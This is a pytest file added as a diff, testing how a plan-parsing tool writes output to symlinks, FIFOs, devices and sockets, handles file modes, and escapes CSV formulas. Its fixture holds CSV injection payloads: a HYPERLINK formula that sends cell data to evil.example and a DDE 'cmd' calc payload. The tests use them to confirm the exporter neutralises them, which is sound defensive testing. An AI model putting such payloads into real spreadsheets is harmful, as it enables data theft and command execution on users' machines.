@@ -1,0 +1,179 @@
+"""Where ``-o`` writes and with what mode, on real symlinks, FIFOs and devices; CSV that runs no formula."""
+from __future__ import annotations
+
+import csv
+import io
+import os
+import stat
+import subprocess
+import sys
+import threading
+from pathlib import Path
+
+import pytest
+from conftest import SAMPLES, write_plan
+
+from planparse.exporters.csv import spreadsheet_cell
+from planparse.exporters.files import PART_PREFIX, PART_SUFFIX
+
+# Short, so that the many runs below cost little: what -o does does not depend on the plan.
+PLAN_TEXT = (SAMPLES / "jieyang-2022.txt").read_text(encoding="utf-8")[:1500]
+
+
+@pytest.fixture(scope="module")
+def plan(tmp_path_factory) -> Path:
+    return write_plan(tmp_path_factory.mktemp("plan"), PLAN_TEXT)
+
+
+def extract(*args: object, umask: int | None = None, stdout: object = subprocess.PIPE) -> subprocess.CompletedProcess:
+    return subprocess.run([sys.executable, "-m", "planparse", "extract", *map(str, args)], stdout=stdout, stderr=subprocess.PIPE,
+                          timeout=120, preexec_fn=(lambda: os.umask(umask)) if umask is not None else None)
+
+
+@pytest.fixture(scope="module")
+def expected(tmp_path_factory, plan: Path) -> bytes:
+    out = tmp_path_factory.mktemp("expected") / "plan.json"
+    assert extract(plan, "-o", out).returncode == 0
+    return out.read_bytes()
+
+
+# --- 1. -o never replaces what is not a regular file -------------------------
+
+
+def test_output_through_a_symlink_writes_its_target_and_keeps_the_link(plan: Path, tmp_path: Path, expected: bytes):
+    (tmp_path / "real").mkdir()
+    link = tmp_path / "plan.json"
+    link.symlink_to(tmp_path / "real" / "plan.json")  # dangling until written
+    assert extract(plan, "-o", link).returncode == 0
+    assert link.is_symlink() and (tmp_path / "real" / "plan.json").read_bytes() == expected
+    assert extract(plan, "-o", link).returncode == 0  # and again, now that the target exists
+    assert link.is_symlink() and (tmp_path / "real" / "plan.json").read_bytes() == expected
+
+
+def test_output_into_a_fifo_writes_the_fifo_and_leaves_it_a_fifo(plan: Path, tmp_path: Path, expected: bytes):
+    fifo = tmp_path / "pipe"
+    os.mkfifo(fifo)
+    received: list[bytes] = []
+    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
+    reader.start()
+    run = extract(plan, "-o", fifo)
+    reader.join(timeout=60)
+    assert run.returncode == 0, run.stderr
+    assert received == [expected]
+    assert stat.S_ISFIFO(fifo.lstat().st_mode)
+    assert sorted(path.name for path in tmp_path.iterdir()) == ["pipe"]  # no temporary file beside it
+
+
+def test_output_onto_character_devices_writes_them_and_never_replaces_them(plan: Path):
+    null = Path("/dev/null")
+    assert extract(plan, "-o", null).returncode == 0
+    assert stat.S_ISCHR(null.stat().st_mode)
+    full = extract(plan, "-o", "/dev/full")  # a device that is always full: the error is one line
+    assert full.returncode == 2 and full.stderr.decode() == "planparse: /dev/full: cannot write output (No space left on device)\n"
+    assert stat.S_ISCHR(Path("/dev/full").stat().st_mode)
+
+
+def test_output_to_dev_stdout_goes_to_standard_output(plan: Path, tmp_path: Path, expected: bytes):
+    to_pipe = extract(plan, "-o", "/dev/stdout")
+    assert to_pipe.returncode == 0 and to_pipe.stdout == expected
+    # Standard output redirected to a file (>>): written where the file ends, the file never replaced.
+    log = tmp_path / "log"
+    log.write_bytes(b"before\n")
+    inode = log.stat().st_ino
+    with log.open("ab") as stream:
+        assert extract(plan, "-o", "/dev/stdout", stdout=stream).returncode == 0
+    assert log.read_bytes() == b"before\n" + expected and log.stat().st_ino == inode
+
+
+def test_output_onto_a_socket_is_refused_in_one_line(plan: Path, tmp_path: Path):
+    import socket
+
+    path = tmp_path / "sock"
+    with socket.socket(socket.AF_UNIX) as server:
+        server.bind(str(path))
+        run = extract(plan, "-o", path)
+    assert run.returncode == 2 and run.stderr.decode().count("\n") == 1
+    assert "neither a file, a FIFO nor a character device" in run.stderr.decode()
+    assert stat.S_ISSOCK(path.lstat().st_mode)
+
+
+# --- 8. permissions --------------------------------------------------------------
+
+
+@pytest.mark.parametrize("umask", [0o022, 0o027, 0o077])
+def test_a_new_output_gets_the_mode_the_umask_allows(plan: Path, tmp_path: Path, umask: int):
+    out = tmp_path / "plan.json"
+    assert extract(plan, "-o", out, umask=umask).returncode == 0
+    assert stat.S_IMODE(out.stat().st_mode) == 0o666 & ~umask
+
+
+def test_an_existing_output_keeps_its_mode(plan: Path, tmp_path: Path, expected: bytes):
+    out = tmp_path / "plan.json"
+    out.write_bytes(b"old")
+    out.chmod(0o644)
+    assert extract(plan, "-o", out, umask=0o077).returncode == 0
+    assert stat.S_IMODE(out.stat().st_mode) == 0o644 and out.read_bytes() == expected
+
+
+# --- 6. temporary files a killed run left ---------------------------------------
+
+
+def test_extract_removes_the_temporary_files_a_killed_run_left(plan: Path, tmp_path: Path):
+    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True).stdout.strip()
+    stale = tmp_path / f"{PART_PREFIX}{dead}-abc{PART_SUFFIX}"
+    live = tmp_path / f"{PART_PREFIX}{os.getpid()}-abc{PART_SUFFIX}"  # a writer still at work: left alone
+    stale.write_bytes(b"")
+    live.write_bytes(b"")
+    assert extract(plan, "-o", tmp_path / "plan.json").returncode == 0
+    assert sorted(path.name for path in tmp_path.iterdir()) == sorted(["plan.json", live.name])
+
+
+# --- 2. CSV formula injection ------------------------------------------------
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_text_cell_that_would_start_a_formula_gets_a_quote(start: str):
+    assert spreadsheet_cell(f"{start}HYPERLINK(\"http://x\")") == f"'{start}HYPERLINK(\"http://x\")"
+
+
+def test_numbers_and_ordinary_text_are_left_as_they_are():
+    assert [spreadsheet_cell(cell) for cell in (-5, 2.5, None, "全市建成10个", "1-2期")] == [-5, 2.5, "", "全市建成10个", "1-2期"]
+
+
+HOSTILE_PLAN = """一、=HYPERLINK("http://evil.example/?"&A1,"点击")
+（一）@SUM(1+1)*cmd|' /C calc'!A0
++到2025年，全市建成科普基地10个以上。
+-全市培训科技辅导员250名。
+"""
+
+
+def cells(data: bytes | str) -> list[str]:
+    text = data.decode("utf-8") if isinstance(data, bytes) else data
+    return [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")) for cell in row]
+
+
+@pytest.mark.parametrize("table", ["targets", "sections", "responsibilities", "tables"])
+def test_no_csv_table_of_extract_holds_a_formula(planparse, tmp_path: Path, table: str):
+    run = planparse("extract", write_plan(tmp_path, HOSTILE_PLAN), "--format", "csv", "--table", table)
+    assert run.code == 0, run.stderr
+    assert not [cell for cell in cells(run.stdout) if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+def test_hostile_text_reaches_the_csv_quoted_not_dropped(planparse, tmp_path: Path):
+    plan = write_plan(tmp_path, HOSTILE_PLAN)
+    sections = cells(planparse("extract", plan, "--format", "csv", "--table", "sections").stdout)
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")" in sections
+    targets = cells(planparse("extract", plan, "--format", "csv").stdout)
+    assert any(cell.startswith("'=HYPERLINK") for cell in targets)  # the headings column
+
+
+def test_batch_csv_files_hold_no_formula(tmp_path: Path):
+    plans = tmp_path / "plans"
+    plans.mkdir()
+    (plans / "=cmd.txt").write_text(HOSTILE_PLAN, encoding="utf-8")
+    run = subprocess.run([sys.executable, "-m", "planparse", "batch", plans, "-o", tmp_path / "out", "-q"], capture_output=True, timeout=120)
+    assert run.returncode == 0, run.stderr
+    for name in ("targets.csv", "documents.csv"):
+        found = cells((tmp_path / "out" / name).read_bytes())
+        assert "'=cmd.txt" in found
+        assert not [cell for cell in found if cell.startswith(("=", "+", "-", "@"))]
